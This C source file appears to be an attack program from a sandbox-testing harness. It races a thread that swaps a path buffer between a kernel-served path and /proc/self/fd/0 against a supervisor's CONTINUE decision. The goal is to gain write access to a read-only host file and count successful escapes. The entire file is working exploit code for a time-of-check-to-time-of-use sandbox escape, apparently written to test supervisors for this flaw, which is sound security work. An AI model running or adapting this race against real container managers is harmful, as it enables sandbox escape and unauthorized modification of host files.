/* The re-read of CONTINUE: a write-open the manager lets the kernel do, raced to a magic
 * link of a host file.
 *
 * continue_race TRIES SECONDS KERNEL_PATH [SOCKET]
 *
 * fd 0 is a host file (read-only): the one a host process passes over the unix socket
 * SOCKET (on a mount marked `sockets`), or stdin. A thread flips a path buffer between KERNEL_PATH, whose
 * write-open the kernel serves (a device node, a procfs file), and /proc/self/fd/0, while
 * the main thread opens the buffer for writing. The manager decides on the first; the
 * kernel, re-reading the memory on CONTINUE, may then open the second. Counters:
 * "escaped" (an fd open for writing on the host file), "continued" (KERNEL_PATH opened),
 * "refused".
 */
#include "attack.h"
#include "received_fd.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static char buffer[64];
static const char *first, *second = "/proc/self/fd/0";
static atomic_int stop;

/* Each path stays in the buffer for as long as the other: a copy is a few stores, and
 * without the dwell the one copied by the slower routine would almost never be whole. */
static void dwell(void) {
    for (volatile int i = 0; i < 64; i++) {
    }
}

static void *flip(void *unused) {
    (void)unused;
    size_t a = strlen(first) + 1, b = strlen(second) + 1;
    while (!atomic_load(&stop)) {
        memcpy(buffer, first, a);
        dwell();
        memcpy(buffer, second, b);
        dwell();
    }
    return NULL;
}

int main(int argc, char **argv) {
    attack_begin(argc, argv);
    if (argc < 4) return 2;
    first = argv[3];
    if (argc > 4 && dup2(receive_fd(argv[4]), 0) < 0) return 3;
    strcpy(buffer, first);
    struct stat target;
    if (fstat(0, &target) < 0 || !S_ISREG(target.st_mode)) return 3;
    pthread_t thread;
    pthread_create(&thread, NULL, flip, NULL);
    long i, escaped = 0, continued = 0, refused = 0;
    for (i = 0; attack_more(i); i++) {
        int fd = open(buffer, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) {
            refused++;
            continue;
        }
        struct stat st;
        if (fstat(fd, &st) == 0 && st.st_dev == target.st_dev && st.st_ino == target.st_ino)
            escaped++;
        else
            continued++;
        close(fd);
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    printf("{\"tries\": %ld, \"escaped\": %ld, \"continued\": %ld, \"refused\": %ld}\n", i, escaped, continued,
           refused);
    return 0;
}
